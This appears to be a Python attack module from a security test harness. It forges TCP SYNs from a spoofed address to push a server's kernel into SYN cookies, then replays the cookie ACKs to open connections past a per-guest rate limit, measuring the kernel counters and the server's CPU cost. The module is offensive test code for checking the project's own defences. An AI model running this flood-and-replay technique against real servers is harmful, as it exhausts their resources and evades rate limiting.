"""A guest begins connections faster than it may, without a SYN.

It leaves so many half open that the kernel answers its next SYNs with cookies. An ACK that repeats a cookie makes a connection, as often as it
comes, for two minutes, and the rule at the port counts SYNs alone. Those beyond what a guest may have open are accepted and reset at once, and
the next ACK makes the next one. Gained: connections without a limit, each of which costs the server an accept(2) and a close(2). In the way:
accepting from a port is paid from a bucket with the same limit (`max-connections-per-second`), and the kernel drops what waits beyond its queue.
"""

import time

import attack
import space
import wire
from attack import Outcome
from field import Field
from host import Host
from puppets import Puppets

# An address that is nobody's.
NOBODY = {4: "192.0.2.90", 6: "2001:db8:2::90"}
# The limit of the server, what it may save up, and what may be late.
RATE, BURST, LATE = 100, 300, 100
# The first port of what is left half open, and of what repeats cookies.
HALF_OPEN, REPEATING = 20000, 30000
CONNECTED, REFUSED = wire.SYN | wire.ACK, wire.RST | wire.ACK


class Cookies(Puppets):
    """Connections of which only the cookies are kept."""

    def __init__(self, field: Field, card: wire.Wire):
        """Has none yet."""
        super().__init__(field, card)
        self._mine = (field.me.link, wire.ip(NOBODY[field.family]))
        self._links[self._mine[1]] = self._mine[0]
        # By port, what its ACK confirms.
        self.cookies: dict[int, int] = {}
        # The ports whose connections have ended, one way or the other, since they were last asked for.
        self.refused: list[int] = []
        self.answered: list[int] = []

    def frame(self, port: int, flags: int, sequence: int = 0, data: bytes = b"") -> bytes:
        """A segment of the connection from this port."""
        (link, address), to = self._mine, self._field.metadata
        return wire.packet(self._field.bridge, link, (address, to), wire.tcp(
            address, to, (port, 80), flags, port * 7 + sequence, self.cookies.get(port, 0), data))

    def collect(self) -> None:
        """Fills the queue, as fast as the rule allows, and has the kernel answer with cookies then."""
        for number, port in enumerate((*range(HALF_OPEN, HALF_OPEN + 330), *range(REPEATING, REPEATING + 220))):
            self._card.send(self.frame(port, wire.SYN))
            self.work(0.0005 if number < 190 else 0.0105)

    def _take(self, segment: wire.Segment) -> None:
        port = segment.ports[1]
        if segment.ports[0] != 80 or segment.destination != self._mine[1] or port < REPEATING:
            return
        if segment.flags & CONNECTED == CONNECTED:
            self.cookies.setdefault(port, segment.sequence + 1)
        elif segment.data:
            self.answered.append(port)
        elif segment.flags & REFUSED == REFUSED:
            self.refused.append(port)


class Attack(attack.Attack):
    """The forger, with its own hardware address."""

    hosts = ("address", "redirect")
    rest = 3
    proofs = (("address", 4), ("address", 6))
    weak_options = ("--max-connections-per-second", "1000000")

    def attack(self, field: Field) -> None:
        """Collects cookies, and repeats them."""
        card = wire.Wire()
        cookies = Cookies(field, card)
        cookies.collect()
        field.ready()
        begin = time.monotonic()
        self.repeat(field, card, cookies)
        seconds = time.monotonic() - begin
        field.report |= {"cookies": len(cookies.cookies), "seconds": round(seconds, 2), "refused": len(cookies.refused),
                         "answered": len(cookies.answered)}
        for port in cookies.cookies:
            card.send(cookies.frame(port, wire.RST, 1))

    def repeat(self, field: Field, card: wire.Wire, cookies: Cookies) -> None:
        """Repeats the ACKs alone."""
        frames = [cookies.frame(port, wire.ACK, 1) for port in cookies.cookies]
        while field.goes_on():
            card.send(*frames)
            cookies.work(0.001)

    def during(self, host: Host, outcome: Outcome) -> None:
        """Looks at the kernel's counters, and at the server's processor time."""
        begin, before, seconds = time.monotonic(), self._counted(), host.server.processor_seconds()
        time.sleep(2)
        took = time.monotonic() - begin
        outcome.host_report |= {name: round((number - before[name]) / took) for name, number in self._counted().items()}
        outcome.host_report["processors"] = round((host.server.processor_seconds() - seconds) / took, 2)

    @staticmethod
    def _counted() -> dict[str, int]:
        """What has come of cookies: those that made a connection, and those for which there was no room."""
        with open("/proc/net/netstat", encoding="ascii") as file:
            found = dict(zip(file.readline().split(), file.readline().split(), strict=True))
        return {name: int(found[name]) for name in ("SyncookiesRecv", "ListenOverflows")}

    def gained(self, outcome: Outcome) -> str | None:
        """More connections than there may be."""
        found, kernel = outcome.forger, outcome.host_report
        number = found["refused"] + found["answered"]
        if found["cookies"] < 100 or kernel["SyncookiesRecv"] < RATE // 4 or number < RATE * found["seconds"] / 4:
            raise space.Failure(f"hardly a cookie made a connection: the attack does not work: {found}, {kernel}")
        if number <= BURST + LATE + RATE * found["seconds"]:
            return None
        return f"{number} connections were accepted in {found['seconds']:.1f} s, with {kernel['processors']} processors"
